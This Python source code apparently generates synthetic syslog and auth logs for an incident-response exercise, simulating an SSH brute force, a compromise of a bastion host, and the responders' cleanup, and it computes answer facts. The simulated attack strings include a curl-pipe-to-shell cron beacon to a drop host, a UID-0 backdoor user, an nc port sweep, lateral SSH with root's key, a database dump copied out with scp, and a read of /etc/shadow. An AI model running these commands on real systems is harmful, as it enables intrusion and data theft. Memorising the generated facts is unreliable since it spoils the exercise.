    "web", "uucp", "ftpadmin", "mc", "minecraft1", "bitrix", "sftp", "ubnt",
]


def brute_force():
    """02:11:09 - 02:51:37: password guessing against bastion-01."""
    rng = R("bruteforce")
    f = F_BAUTH
    t_start = at("2026-03-14 02:11:09.201733")
    t_deploy = at("2026-03-14 02:44:00")
    t_stop = at("2026-03-14 02:51:20")
    hostile = [(at("2026-03-14 02:23:41"), HOSTILE_SCRIPT),
               (at("2026-03-14 02:37:12"), HOSTILE_CSV)]
    attempts = []   # (t, user)
    threads = [t_start, t_start + sec(4.7)]
    while True:
        i = min(range(len(threads)), key=lambda k: threads[k])
        t = threads[i]
        if t > t_stop:
            break
        if t >= t_deploy:
            user = "deploy" if rng.random() < 0.75 else "root"
        else:
            r = rng.random()
            user = "root" if r < 0.12 else rng.choice(WORDLIST)
        for k, (ht, name) in enumerate(hostile):
            if name and t >= ht:
                user = name
                hostile[k] = (ht, None)
                break
        attempts.append((t, user))
        threads[i] = t + sec(rng.uniform(9.0, 19.0))

    # a MaxStartups burst at 02:30: the tool briefly opened many connections
    burst_t = at("2026-03-14 02:29:58.611408")
    for k in range(9):
        attempts.append((burst_t + sec(k * 0.35), rng.choice(WORDLIST)))
    ml = SSHD_MAIN["bastion-01"]
    emit(f, burst_t + sec(3.2), "sshd", "error: beginning MaxStartups "
         "throttling", ml)
    for k in range(3):
        emit(f, burst_t + sec(3.3 + k * 0.2), "sshd", f"drop connection #10 from "
             f"[{ATTACKER_IP}]:{rng.randint(32768, 60999)} on [{BASTION_IP}]:22 "
             "past MaxStartups", ml)
    emit(f, burst_t + sec(9.4), "sshd", "exited MaxStartups throttling after "
         "00:00:06, 3 connections dropped", ml)

    ip = ATTACKER_IP
    for n, (t, user) in enumerate(sorted(attempts)):
        port = rng.randint(32768, 60999)
        p = P()
        tries = 3 if rng.random() < 0.15 else 1
        if user in (HOSTILE_SCRIPT, HOSTILE_CSV):
            tries = 1
        tg = ("hostile",) if user in (HOSTILE_SCRIPT, HOSTILE_CSV) else ()
        first = n == 0
        valid = user in ("root", "deploy")
        tt = t
        ft = ("bf_first",) if first else ()
        if not valid:
            emit(f, tt, "sshd", "Invalid user {u} from {ip} port {port}", p,
                 tg + ft, u=user, ip=ip, port=port)
            tt += sec(0.2 + rng.random() * 0.2)
            ft = ()
        for k in range(tries):
            if valid:
                emit(f, tt, "sshd", "pam_unix(sshd:auth): authentication "
                     "failure; logname= uid=0 euid=0 tty=ssh ruser= rhost="
                     f"{ip}  user={user}", p, ft)
                ft = ()
            else:
                emit(f, tt, "sshd", "pam_unix(sshd:auth): check pass; user "
                     "unknown", p)
                emit(f, tt + sec(0.0003), "sshd", "pam_unix(sshd:auth): "
                     "authentication failure; logname= uid=0 euid=0 tty=ssh "
                     f"ruser= rhost={ip}", p)
            tt += sec(2.0 + rng.random() * 0.9)
            inv = "" if valid else "invalid user "
            emit(f, tt, "sshd", "Failed password for {inv}{u} from {ip} port "
                 "{port} ssh2", p, tg + (("bf_deploy",) if user == "deploy"
                                         else ()),
                 inv=inv, u=user, ip=ip, port=port)
            tt += sec(0.3 + rng.random() * 0.8)
        kind = "authenticating user" if valid else "invalid user"
        emit(f, tt, "sshd", "Connection closed by {kind} {u} {ip} port {port} "
             "[preauth]", p, tg, kind=kind, u=user, ip=ip, port=port)
        if tries > 1:
            emit(f, tt + sec(0.0002), "sshd", f"PAM {tries - 1} more "
                 "authentication failures; logname= uid=0 euid=0 tty=ssh ruser= "
                 f"rhost={ip}" + (f"  user={user}" if valid else ""), p)


def compromise():
    f = F_BAUTH
    rng = R("compromise")
    d_uid = 1002
    # 02:51:37 the password for deploy is found
    t = at("2026-03-14 02:51:37.118402")
    s1 = ssh_open(f, t, "deploy", ATTACKER_IP, 53122, method="password",
                  tags="accepted_attacker")
    audit(t - sec(0.05), "USER_AUTH", "pid={p} uid=0 auid=4294967295 "
          "ses=4294967295 subj=unconfined msg='op=PAM:authentication "
          "grantors=pam_unix acct=\"deploy\" exe=\"/usr/sbin/sshd\" hostname="
          f"{ATTACKER_IP} addr={ATTACKER_IP} terminal=ssh res=success'", p=s1.pid)
    audit(t + sec(0.03), "USER_LOGIN", "pid={p} uid=0 auid=1002 ses={ses} "
          "subj=unconfined msg='op=login id=1002 exe=\"/usr/sbin/sshd\" "
          f"hostname=? addr={ATTACKER_IP} terminal=/dev/pts/0 res=success'",
          p=s1.pid, ses=s1.sid)
    sudo(f, at("2026-03-14 02:52:04.772010"), "deploy", d_uid, "list",
         tags="sudo_list")
    steps = [
        ("2026-03-14 02:53:10.412877", f"/usr/bin/curl -fsSL http://{DROP_IP}/x.sh"
         " -o /tmp/.x.sh", 1.3, "sudo_curl",
         ["/usr/bin/curl", "-fsSL", f"http://{DROP_IP}/x.sh", "-o", "/tmp/.x.sh"]),
        ("2026-03-14 02:53:22.090310", "/usr/bin/chmod +x /tmp/.x.sh", 0.02,
         "sudo_chmod", ["/usr/bin/chmod", "+x", "/tmp/.x.sh"]),
        ("2026-03-14 02:53:31.544192", "/bin/bash /tmp/.x.sh", 259.2, "sudo_run",
         ["/bin/bash", "/tmp/.x.sh"]),
    ]
    for ts, cmd, dur, tag, argv in steps:
        tt = at(ts)
        sudo(f, tt, "deploy", d_uid, cmd, dur, tags=tag)
        args = " ".join(f'a{i}="{a}"' for i, a in enumerate(argv))
        audit(tt + sec(0.006), "EXECVE", f"argc={len(argv)} {args}", tags="audit_exec",
              sd='[origin ip="{ip}"][meta sequenceId="{sq}"]',
              sd_args={"ip": BASTION_IP, "sq": rng.randint(100, 999)})

    # what /tmp/.x.sh did, as root
    x0 = at("2026-03-14 02:53:31.544192")
    emit(f, x0 + sec(1.71), "crontab", "(root) REPLACE (root)", P(),
         "crontab_replace")
    audit(x0 + sec(1.70), "EXECVE", 'argc=2 a0="crontab" a1="-"',
          sd="-")
    emit(f, at("2026-03-14 02:54:01.021377"), "cron",
         "(root) RELOAD (crontabs/root)", CROND["bastion-01"])
    ua = P()
    emit(f, x0 + sec(2.40), "useradd", "new group: name=sysbackup, GID=1003",
         ua, "useradd")
    emit(f, x0 + sec(2.41), "useradd", "new user: name=sysbackup, UID=0, "
         "GID=1003, home=/home/sysbackup, shell=/bin/bash, from=/dev/pts/0",
         ua, "useradd")
    audit(x0 + sec(2.41), "ADD_USER", "pid={p} uid=0 auid=1002 ses={ses} "
          "subj=unconfined msg='op=add-user acct=\"sysbackup\" "
          "exe=\"/usr/sbin/useradd\" hostname=bastion-01 addr=? "
          "terminal=pts/0 res=success'", p=ua, ses=s1.sid, tags="audit_user")
    cp = P()
    emit(f, x0 + sec(2.93), "chpasswd", "pam_unix(chpasswd:chauthtok): "
         "password changed for sysbackup", cp, "chpasswd")
    # internal scan (shows up on web-01 as UFW blocks)
    nc = P()
    tn = at("2026-03-14 02:55:41.060311")
    spawn(H_BASTION, tn, nc)
    audit(tn, "EXECVE", 'argc=9 a0="nc" a1="-zw1" a2="10.20.0.7" a3="3306" '
          'a4="5432" a5="6379" a6="9200" a7="27017" a8="8080"', sd="-",
          tags="audit_sweep")
    # lateral movement #1: root's own key is trusted by root@db-01
    remote = ("useradd -m -s /bin/bash -G sudo sysbackup && echo "
              "sysbackup:Backup2026! | chpasswd")
    audit(at("2026-03-14 02:57:47.880217"), "EXECVE", 'argc=6 a0="ssh" a1="-i" '
          'a2="/root/.ssh/id_ed25519" a3="-oStrictHostKeyChecking=no" '
          f'a4="root@{DB_IP}" a5={hexarg(remote)}', tags="audit_lateral")
    # lateral movement #2: interactive as sysbackup
    audit(at("2026-03-14 03:02:09.301552"), "EXECVE",
          f'argc=2 a0="ssh" a1="sysbackup@{DB_IP}"', tags="audit_lateral")

    # first attacker session ends
    ssh_close(s1, at("2026-03-14 03:14:05.660190"), tags="attacker_logout")

    # persistence: root crontab "*/10 * * * *" beacon
    beacon = f"/usr/bin/curl -fsSL http://{DROP_IP}/x.sh | /bin/sh >/dev/null 2>&1"
    t = at("2026-03-14 03:00:01")
    first = True
    while t <= at("2026-03-14 08:50:01"):
        blocked = t == at("2026-03-14 08:50:01")
        j = t + sec(rng.random() * 0.3)
        dur = 129.8 if blocked else 0.9 + rng.random() * 1.5
        cron_job(f, j, "root", 0, beacon, dur,
                 tags=("persist_first" if first else
                       "persist_blocked" if blocked else "persist"))
        if first:
            sh = P()
            spawn(H_BASTION, j + sec(0.003), sh)
            audit(j + sec(0.004), "EXECVE",
                  f'argc=3 a0="/bin/sh" a1="-c" a2={hexarg(beacon)}',
                  sd='[origin ip="{ip}"][exec@32473 cmdline="/bin/sh -c \\"'
                     '{cmd}\\""]',
                  sd_args={"ip": BASTION_IP, "cmd": beacon},
                  tags="sd_escaped")
        if blocked:
            for k, off in enumerate((0.05, 1.07, 3.11, 7.19, 15.35, 31.67)):
                ufw(F_B5424, j + sec(off), BASTION, BASTION_IP, DROP_IP,
                    41876, 80, rng, direction="out", ttl=64, tags="ufw_out",
                    iface="ens18")
        first = False
        t += timedelta(minutes=10)

    # db-01: root login with bastion's root key, creates sysbackup
    fd = F_DB
    t = at("2026-03-14 02:57:48.203155")
    rs = ssh_open(fd, t, "root", BASTION_IP, 41822, key=ROOT_BASTION_KEY,
                  tags="db_root_key", uid=0)
    ua = P()
    emit(fd, t + sec(0.31), "useradd", "new group: name=sysbackup, GID=1002",
         ua, "db_useradd")
    emit(fd, t + sec(0.32), "useradd", "new user: name=sysbackup, UID=1002, "
         "GID=1002, home=/home/sysbackup, shell=/bin/bash, from=none", ua,
         "db_useradd")
    um = P()
    emit(fd, t + sec(0.36), "useradd", "add 'sysbackup' to group 'sudo'", ua)
    emit(fd, t + sec(0.36), "useradd", "add 'sysbackup' to shadow group 'sudo'",
         ua)
    emit(fd, t + sec(0.47), "chpasswd", "pam_unix(chpasswd:chauthtok): "
         "password changed for sysbackup", um)
    ssh_close(rs, t + sec(0.52))

    t = at("2026-03-14 03:02:11.512345")
    ss = ssh_open(fd, t, "sysbackup", BASTION_IP, 41876, method="password",
                  tags="db_sysbackup_login", uid=1002)
    sb_uid = 1002
    dump = "/tmp/.cache.sql"
    sudo(fd, at("2026-03-14 03:03:05.118022"), "sysbackup", sb_uid,
         f"/usr/bin/mysqldump --all-databases --single-transaction --routines "
         f"-r {dump}", 172.4, pwd="/home/sysbackup", tags="db_mysqldump")
    sudo(fd, at("2026-03-14 03:06:10.402117"), "sysbackup", sb_uid,
         f"/usr/bin/gzip -9 {dump}", 41.9, pwd="/home/sysbackup", tags="db_gzip")
    sudo(fd, at("2026-03-14 03:07:02.880410"), "sysbackup", sb_uid,
         f"/usr/bin/scp -q -o StrictHostKeyChecking=no {dump}.gz "
         f"drop@{DROP_IP}:/srv/in/db-01.sql.gz", 158.6, pwd="/home/sysbackup",
         tags="db_scp")
    ssh_close(ss, at("2026-03-14 03:10:20.044871"), tags="db_sysbackup_logout")

    # ---- the attacker comes back at 08:31 ----
    t = at("2026-03-14 08:31:12.530112")
    s2 = ssh_open(f, t, "deploy", ATTACKER_IP, 60144, method="password",
                  tags="accepted_attacker_2")
    audit(t + sec(0.03), "USER_LOGIN", "pid={p} uid=0 auid=1002 ses={ses} "
          "subj=unconfined msg='op=login id=1002 exe=\"/usr/sbin/sshd\" "
          f"hostname=? addr={ATTACKER_IP} terminal=/dev/pts/0 res=success'",
          p=s2.pid, ses=s2.sid)
    sudo(f, at("2026-03-14 08:33:40.100921"), "deploy", d_uid,
         "/usr/bin/cat /etc/shadow", 0.05, tags="sudo_shadow")

    # ---- response: alice (on call) ----
    a = USERS["alice"]["uid"]
    t = at("2026-03-14 08:42:55.007310")
    sa = ssh_open(f, t, "alice", ALICE_WS, 50412, tags="alice_login")
    audit(t + sec(0.03), "USER_LOGIN", "pid={p} uid=0 auid=1000 ses={ses} "
          "subj=unconfined msg='op=login id=1000 exe=\"/usr/sbin/sshd\" "
          f"hostname=? addr={ALICE_WS} terminal=/dev/pts/1 res=success'",
          p=sa.pid, ses=sa.sid)
    resp = [
        ("08:43:20.311002", "/usr/bin/last -i -n 20", 0.1, ()),
        ("08:43:58.902114", '/usr/bin/grep -a "Accepted password" '
         '/var/log/auth.log', 0.2, ()),
        ("08:44:40.552981", "/usr/bin/ss -tnp", 0.1, ()),
        ("08:45:10.118230", f"/usr/sbin/ufw insert 1 deny from {ATTACKER_IP}",
         1.4, "ufw_deny_in"),
        ("08:45:40.774310", f"/usr/sbin/ufw insert 1 deny out to {DROP_IP}",
         1.3, "ufw_deny_out"),
        ("08:46:15.260045", "/usr/bin/pkill -KILL -u deploy", 0.05, "pkill"),
        ("08:46:50.412991", "/usr/bin/passwd -l deploy", 0.1, "passwd_lock"),
        ("08:47:30.005127", "/usr/bin/crontab -l", 0.02, "crontab_list"),
        ("08:48:40.630228", "/usr/sbin/userdel -r sysbackup", 0.03,
         "userdel_refused"),
        ("08:49:05.882300", "/usr/sbin/userdel -f -r sysbackup", 0.2, "userdel"),
        ("08:51:50.101443", "/usr/bin/cp -a /var/spool/cron/crontabs/root "
         "/root/ir-20260314/crontab.root", 0.02, ()),
        ("08:52:30.550871", "/usr/bin/crontab -r", 0.02, "crontab_delete"),
        ("08:55:12.903004", "/usr/sbin/visudo -f /etc/sudoers.d/90-deploy",
         61.0, "visudo"),
        ("08:57:40.218833", "/usr/bin/sed -i s/^PasswordAuthentication yes/"
         "PasswordAuthentication no/ /etc/ssh/sshd_config", 0.01,
         "sshd_config"),
        ("08:58:05.640120", "/usr/bin/systemctl reload ssh", 0.2, "ssh_reload"),
    ]
    for hms, cmd, dur, tag in resp:
        tt = at("2026-03-14 " + hms)
        sudo(f, tt, "alice", a, cmd, dur, tty="pts/1", tags=tag)
        if tag in ("ufw_deny_in", "ufw_deny_out"):
            ip = P()
            spawn(H_BASTION, tt + sec(0.5), ip)
            audit(tt + sec(0.51), "NETFILTER_CFG", "table=filter family=2 "
                  "entries={e} op=xt_replace pid={p} subj=unconfined "
                  "comm=\"iptables-restor\"", p=ip,
                  e=212 if tag == "ufw_deny_in" else 216, sd="-")
        if tag == "pkill":
            ssh_close(s2, tt + sec(0.04), client=False, tags="attacker_killed")
        if tag == "passwd_lock":
            pp = P()
            emit(f, tt + sec(0.05), "passwd", "password for 'deploy' changed "
                 "by 'root'", pp, "passwd_lock")
            audit(tt + sec(0.05), "USER_CHAUTHTOK", "pid={p} uid=0 auid=1000 "
                  "ses={ses} subj=unconfined msg='op=change-password id=1002 "
                  "exe=\"/usr/bin/passwd\" hostname=bastion-01 addr=? "
                  "terminal=pts/1 res=success'", p=pp, ses=sa.sid)
        if tag == "crontab_list":
            emit(f, tt + sec(0.01), "crontab", "(root) LIST (root)", P())
        if tag == "userdel":
            ud = P()
            emit(f, tt + sec(0.1), "userdel", "delete user 'sysbackup'", ud,
                 "userdel")
            emit(f, tt + sec(0.1), "userdel", "removed group 'sysbackup' owned "
                 "by 'sysbackup'", ud)
            emit(f, tt + sec(0.1), "userdel", "removed shadow group 'sysbackup' "
                 "owned by 'sysbackup'", ud)
            audit(tt + sec(0.1), "DEL_USER", "pid={p} uid=0 auid=1000 ses={ses} "
                  "subj=unconfined msg='op=delete-user acct=\"sysbackup\" "
                  "exe=\"/usr/sbin/userdel\" hostname=bastion-01 addr=? "
                  "terminal=pts/1 res=success'", p=ud, ses=sa.sid,
                  tags="audit_user")
        if tag == "crontab_delete":
            emit(f, tt + sec(0.01), "crontab", "(root) DELETE (root)", P(),
                 "crontab_delete")
            emit(f, at("2026-03-14 08:53:01.009181"), "cron",
                 "(root) RELOAD (crontabs/root)", CROND["bastion-01"])
        if tag == "ssh_reload":
            m = SSHD_MAIN["bastion-01"]
            emit(f, tt + sec(0.1), "sshd", "Received SIGHUP; restarting.", m)
            emit(f, tt + sec(0.15), "sshd", "Server listening on 0.0.0.0 port 22.",
                 m)
            emit(f, tt + sec(0.15), "sshd", "Server listening on :: port 22.", m)

    # the attacker keeps trying, now blocked at the firewall
    for base in ("08:47:03.201180", "09:02:41.774002", "09:17:20.050611"):
        b = at("2026-03-14 " + base)
        spt = rng.randint(32768, 60999)
        for off in (0.0, 1.02, 3.06, 7.14)[: 3 if base.startswith("09:17") else 4]:
            ufw(F_B5424, b + sec(off), BASTION, ATTACKER_IP, BASTION_IP, spt, 22,
                rng, tags="ufw_in")

    # ---- bob joins, cleans db-01 ----
    bb = USERS["bob"]["uid"]
    t = at("2026-03-14 09:01:30.660218")
    sb = ssh_open(f, t, "bob", BOB_WS, 44718, tags="bob_login")
    audit(t + sec(0.03), "USER_LOGIN", "pid={p} uid=0 auid=1001 ses={ses} "
          "subj=unconfined msg='op=login id=1001 exe=\"/usr/sbin/sshd\" "
          f"hostname=? addr={BOB_WS} terminal=/dev/pts/2 res=success'",
          p=sb.pid, ses=sb.sid)
    t = at("2026-03-14 09:03:10.118250")
    sd = ssh_open(fd, t, "bob", BASTION_IP, 45902, tags="db_bob_login")
    for hms, cmd, dur, tag in [
        ("09:03:40.301276", "/usr/bin/last -i -n 30", 0.1, ()),
        ("09:04:05.882113", "/usr/bin/ls -la /tmp", 0.01, ()),
        ("09:05:20.441870", "/usr/sbin/userdel -r sysbackup", 0.2, "db_userdel"),
        ("09:06:45.120044", "/usr/bin/sed -i /root@bastion-01/d "
         "/root/.ssh/authorized_keys", 0.01, "db_authkeys"),
        ("09:07:02.540911", "/usr/bin/sha256sum /tmp/.cache.sql.gz", 2.3, ()),
        ("09:07:30.008812", "/usr/bin/mv /tmp/.cache.sql.gz /root/ir-20260314/",
         0.02, ()),
    ]:
        tt = at("2026-03-14 " + hms)
        sudo(fd, tt, "bob", bb, cmd, dur, tags=tag)
        if tag == "db_userdel":
            ud = P()
            emit(fd, tt + sec(0.12), "userdel", "delete user 'sysbackup'", ud,
                 "db_userdel")
            emit(fd, tt + sec(0.12), "userdel", "removed group 'sysbackup' "
                 "owned by 'sysbackup'", ud)
            emit(fd, tt + sec(0.12), "userdel", "removed shadow group "
                 "'sysbackup' owned by 'sysbackup'", ud)
    ssh_close(sd, at("2026-03-14 09:15:40.902551"))
    ssh_close(sb, at("2026-03-14 09:16:10.318804"))
    ssh_close(sa, at("2026-03-14 09:24:12.771093"), tags="alice_logout")

    # web-01: the x.sh port sweep from bastion-01 (10.20.0.5)
    w = at("2026-03-14 02:55:41.120544")
    sweep = [(3306, 0.0), (5432, 0.9), (6379, 1.1), (9200, 1.9), (27017, 2.2),
             (8080, 3.0)]
    for dpt, off in sweep:
        st = None
        if dpt == 3306:
            # delivered late by imklog: printed after the 02:55:42 lines
            st = w + sec(1.5)
        ufw(F_WEB, w + sec(off), WEB, BASTION_IP, WEB_IP,
            rng.randint(32768, 60999), dpt, rng, ttl=64, tags="web_sweep",
            sort_ts=st)


def out_of_order_noise():
    """A second out-of-order line in web-01/syslog: a kernel UFW line written
    1.3 s after the following CRON line but stamped earlier."""
    rng = R("ooo")
    t = at("2026-03-12 14:30:00.702114")
    ufw(F_WEB, t, WEB, "192.0.2.188", WEB_IP, 51515, 3389, rng, ttl=113,
        sort_ts=t + sec(1.3), tags="ooo_noise")


def malformed():
    """10 lines of bastion-01 auth.log written just after auth.log ends
    (a copy cut short while the disk was full).  Line 4 lost its timestamp,
    line 7 is a write cut off after "Mar 1"."""
    f = F_BMAL
    emit(f, at("2026-03-14 18:03:51.310422"), "sshd", "Connection closed by "
         "192.0.2.140 port 33512 [preauth]", P())
    p = P()
    emit(f, at("2026-03-14 18:12:02.118230"), "sshd", "Invalid user oracle "
         "from 192.0.2.163 port 51870", p)
    emit(f, at("2026-03-14 18:12:02.530114"), "sshd", "Connection closed by "
         "invalid user oracle 192.0.2.163 port 51870 [preauth]", p)
    emit(f, at("2026-03-14 18:14:44.2"), "", "", None, "broken",
         x_raw="bastion-01 sshd[{p}]: Connection closed by 192.0.2.211 port "
               "40022 [preauth]", p=P())
    c = P()
    emit(f, at("2026-03-14 18:17:01.204410"), "CRON", "pam_unix(cron:session): "
         "session opened for user root(uid=0) by (uid=0)", c)
    emit(f, at("2026-03-14 18:17:01.206102"), "CRON",
         "(root) CMD (cd / && run-parts --report /etc/cron.hourly)", c)
    emit(f, at("2026-03-14 18:17:01.3"), "", "", None, "broken", x_raw="Mar 1")
    emit(f, at("2026-03-14 18:17:01.611870"), "CRON", "pam_unix(cron:session): "
         "session closed for user root", c)
    k = P()
    emit(f, at("2026-03-14 18:19:33.042871"), "sshd", "error: "
         "kex_exchange_identification: Connection closed by remote host", k)
    emit(f, at("2026-03-14 18:19:33.043310"), "sshd", "Connection closed by "
         "192.0.2.57 port 40770", k)


def rollover():
    f = F_ROLL
    rng = R("rollover")
    t0 = datetime(2025, 12, 31, 23, 59, 50, 120000, tzinfo=UTC)
    emit(f, t0, "chronyd", "Selected source 10.20.0.1 (ntp1.example.com)", 702)
    ufw(f, t0 + sec(2.4), EDGE, "192.0.2.201", "10.20.0.2", 44321, 23, rng,
        iface="ens19")
    emit(f, t0 + sec(4.9), "sshd", "Connection closed by 192.0.2.201 port "
         "44390 [preauth]", P())
    emit(f, t0 + sec(6.2), "haproxy", "192.0.2.77:50112 [31/Dec/2025:23:59:56.301]"
         " https~ web/web-01 0/0/1/12/13 200 5120 - - ---- 4/4/0/0/0 0/0 "
         "\"GET /api/health HTTP/1.1\"", 811)
    emit(f, t0 + sec(8.1), "haproxy", "192.0.2.77:50114 [31/Dec/2025:23:59:58.221]"
         " https~ web/web-01 0/0/1/9/10 200 5120 - - ---- 4/4/0/0/0 0/0 "
         "\"GET /api/health HTTP/1.1\"", 811)
    ufw(f, t0 + sec(9.7), EDGE, "192.0.2.16", "10.20.0.2", 60001, 3389, rng,
        iface="ens19")
    m = datetime(2026, 1, 1, 0, 0, 0, 210000, tzinfo=UTC)
    emit(f, m, "systemd", "Starting logrotate.service - Rotate log files...", 1)
    emit(f, m + sec(0.01), "systemd", "Starting dpkg-db-backup.service - "
         "Daily dpkg database backup service...", 1)
    emit(f, m + sec(0.6), "systemd", "Starting sysstat-collect.service - "
         "system activity accounting tool...", 1)
    emit(f, m + sec(0.9), "systemd", "sysstat-collect.service: Deactivated "
         "successfully.", 1)
    emit(f, m + sec(0.9), "systemd", "Finished sysstat-collect.service - "
         "system activity accounting tool.", 1)
    cron_job(f, m + sec(0.8), "root", 0, "/usr/local/sbin/haproxy-ocsp-refresh "
             ">/dev/null 2>&1", 0, pam=False)
    emit(f, m + sec(1.3), "systemd", "dpkg-db-backup.service: Deactivated "
         "successfully.", 1)
    emit(f, m + sec(1.3), "systemd", "Finished dpkg-db-backup.service - "
         "Daily dpkg database backup service.", 1)
    emit(f, m + sec(1.9), "rsyslogd", '[origin software="rsyslogd" swVersion='
         '"8.2302.0" x-pid="597" x-info="https://www.rsyslog.com"] rsyslogd '
         'was HUPed', None)
    emit(f, m + sec(2.0), "systemd", "logrotate.service: Deactivated "
         "successfully.", 1)
    emit(f, m + sec(2.0), "systemd", "Finished logrotate.service - Rotate log "
         "files.", 1)
    emit(f, m + sec(5.4), "haproxy", "192.0.2.77:50130 [01/Jan/2026:00:00:05.412]"
         " https~ web/web-01 0/0/1/11/12 200 5120 - - ---- 4/4/0/0/0 0/0 "
         "\"GET /api/health HTTP/1.1\"", 811)
    emit(f, m + sec(9.6), "chronyd", "Source 10.20.0.1 replaced with "
         "10.20.0.3 (ntp2.example.com)", 702)
    ufw(f, m + sec(9.9), EDGE, "192.0.2.16", "10.20.0.2", 60017, 3389, rng,
        iface="ens19")


# --------------------------------------------------------------------------
# Build, render, facts
# --------------------------------------------------------------------------

def build() -> dict[str, str]:
    global EVENTS, _ORDER
    EVENTS = []
    _ORDER = itertools.count()
    init_world()
    cron_noise()
    web_noise()
    scanner_noise()
    admin_noise()
    brute_force()
    compromise()
    out_of_order_noise()
    malformed()
    rollover()

    by_host: dict[int, list[Event]] = {}
    for ev in EVENTS:
        by_host.setdefault(id(ev.file.host), []).append(ev)
    for host in (BASTION, WEB, DB, FRAG, EDGE):
        if host is FRAG:
            FRAG.pid_next = BASTION.pid_next + 211
            FRAG.counters["session"] = BASTION.counters["session"]
        assign_numbers(host, by_host.get(id(host), []))

    out: dict[str, str] = {}
    tagged: dict[str, list[tuple[str, int]]] = {}
    for fs in OUTPUT_FILES:
        evs = sorted((e for e in EVENTS if e.file is fs),
                     key=lambda e: (e.sort_ts, e.order))
        lines = []
        for n, e in enumerate(evs, 1):
            lines.append(render(e))
            for tg in e.tags:
                tagged.setdefault(tg, []).append((fs.rel, n))
        out[fs.rel] = "\n".join(lines) + "\n"
    return out, tagged


RE_3164 = re.compile(r"^(Jan|Feb|Mar|Apr|May|Jun|Jul|Aug|Sep|Oct|Nov|Dec) "
                     r"([ 1-3]\d) (\d\d):(\d\d):(\d\d) (\S+) (.*)$")
RE_ISO = re.compile(r"^(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}[+-]\d\d:\d\d) "
                    r"(\S+) (.*)$")
RE_5424 = re.compile(r"^<(\d{1,3})>1 (\S+) (\S+) (\S+) (\S+) (\S+) (.*)$")
RE_ACCEPT = re.compile(r"Accepted (\S+) for (\S+) from (\S+) port (\d+)")
RE_IP = re.compile(r"\b(?:\d{1,3}\.){3}\d{1,3}\b")


def parse_ts(fmt: str, line: str, year: int):
    """Return (raw timestamp text, ISO-8601 UTC string, datetime) or None."""
    if fmt == "3164":
        m = RE_3164.match(line)
        if not m:
            return None
        raw = line[:15]
        dt = datetime(year, MONTHS.index(m.group(1)) + 1, int(m.group(2)),
                      int(m.group(3)), int(m.group(4)), int(m.group(5)),
                      tzinfo=UTC)
        return raw, dt.strftime("%Y-%m-%dT%H:%M:%SZ"), dt
    if fmt == "iso":
        m = RE_ISO.match(line)
        if not m:
            return None
        dt = datetime.fromisoformat(m.group(1))
        return m.group(1), dt.astimezone(UTC).strftime(
            "%Y-%m-%dT%H:%M:%S.%fZ"), dt
    m = RE_5424.match(line)
    if not m:
        return None
    dt = datetime.fromisoformat(m.group(2).replace("Z", "+00:00"))
    return m.group(2), m.group(2), dt


def split_sd(rest: str) -> tuple[str, str]:
    """Split 'SD MSG' of an RFC 5424 line (handles escaped \\" \\] \\\\)."""
    if rest.startswith("-"):
        return "-", rest[2:]
    i, in_q = 0, False
    while i < len(rest):
        c = rest[i]
        if in_q:
            if c == "\\":
                i += 2
                continue
            if c == '"':
                in_q = False
        elif c == '"':
            in_q = True
        elif c == "]" and (i + 1 == len(rest) or rest[i + 1] != "["):
            return rest[: i + 1], rest[i + 2:]
        i += 1
    raise ValueError("unterminated SD")


def facts(out: dict[str, str], tagged) -> dict:
    fmts = {fs.rel: fs.fmt for fs in OUTPUT_FILES}
    res = {"attacker_ips": [ATTACKER_IP, DROP_IP], "files": {}}
    for rel, text in out.items():
        lines = text.split("\n")[:-1]
        year = 2025 if rel.startswith("rollover/") else 2026
        fmt = fmts[rel]
        parsed = [parse_ts(fmt, ln, year) for ln in lines]
        # rollover: import with year 2025 -> increment the year at Dec->Jan
        if rel.startswith("rollover/"):
            fixed, yr, prev = [], year, None
            for pz, ln in zip(parsed, lines):
                if pz and prev and pz[2].month < prev.month:
                    yr += 1
                if pz:
                    dt = pz[2].replace(year=yr)
                    pz = (pz[0], dt.strftime("%Y-%m-%dT%H:%M:%SZ"), dt)
                    prev = dt
                fixed.append(pz)
            parsed = fixed
        bad = [i + 1 for i, p in enumerate(parsed) if p is None]
        good = [(i + 1, p) for i, p in enumerate(parsed) if p is not None]
        ooo = []
        for (n0, p0), (n1, p1) in zip(good, good[1:]):
            if p1[2] < p0[2]:
                ooo.append(n1)
        accepted = []
        failed_by_ip: dict[str, int] = {}
        for i, ln in enumerate(lines, 1):
            m = RE_ACCEPT.search(ln)
            if m:
                accepted.append({"line": i, "method": m.group(1),
                                 "user": m.group(2), "ip": m.group(3),
                                 "port": int(m.group(4))})
            if "Failed password" in ln:
                ip = re.search(r" from (\S+) port", ln).group(1)
                failed_by_ip[ip] = failed_by_ip.get(ip, 0) + 1
        hostile = [i for i, ln in enumerate(lines, 1)
                   if HOSTILE_SCRIPT in ln or HOSTILE_CSV in ln]
        users = {}
        for a in accepted:
            users[a["user"]] = users.get(a["user"], 0) + 1
        ips_att = {ip: sum(1 for ln in lines if ip in ln)
                   for ip in (ATTACKER_IP, DROP_IP)}
        info = {
            "format": {"3164": "RFC 3164 (BSD syslog, no PRI, no year)",
                       "iso": "rsyslog RFC 3339 high-precision",
                       "5424": "RFC 5424"}[fmt],
            "lines": len(lines),
            "bytes": len(text.encode()),
            "sha256": hashlib.sha256(text.encode()).hexdigest(),
            "first_timestamp": {"raw": good[0][1][0], "utc": good[0][1][1],
                                "line": good[0][0]},
            "last_timestamp": {"raw": good[-1][1][0], "utc": good[-1][1][1],
                               "line": good[-1][0]},
            "unparseable_lines": bad,
            "out_of_order_lines": ooo,
            "failed_password_lines": sum(failed_by_ip.values()),
            "failed_password_by_ip": dict(sorted(failed_by_ip.items())),
            "invalid_user_lines": sum(1 for ln in lines if "Invalid user " in ln),
            "accepted_lines": len(accepted),
            "accepted_by_user": dict(sorted(users.items())),
            "accepted": accepted,
            "hostile_lines": hostile,
            "lines_mentioning_attacker_ips": ips_att,
        }
        if rel.startswith("rollover/"):
            info["import_year"] = 2025
            info["lines_in_2025"] = sum(1 for _, p in good if p[2].year == 2025)
            info["lines_in_2026"] = sum(1 for _, p in good if p[2].year == 2026)
        if fmt == "5424":
            nil_sd = sd_lines = 0
            for ln in lines:
                sd, _ = split_sd(RE_5424.match(ln).group(7))
                if sd == "-":
                    nil_sd += 1
                else:
                    sd_lines += 1
            info["lines_with_structured_data"] = sd_lines
            info["lines_with_nil_structured_data"] = nil_sd
            info["lines_with_escaped_sd_params"] = [
                n for f_, n in tagged.get("sd_escaped", []) if f_ == rel]
        res["files"][rel] = info
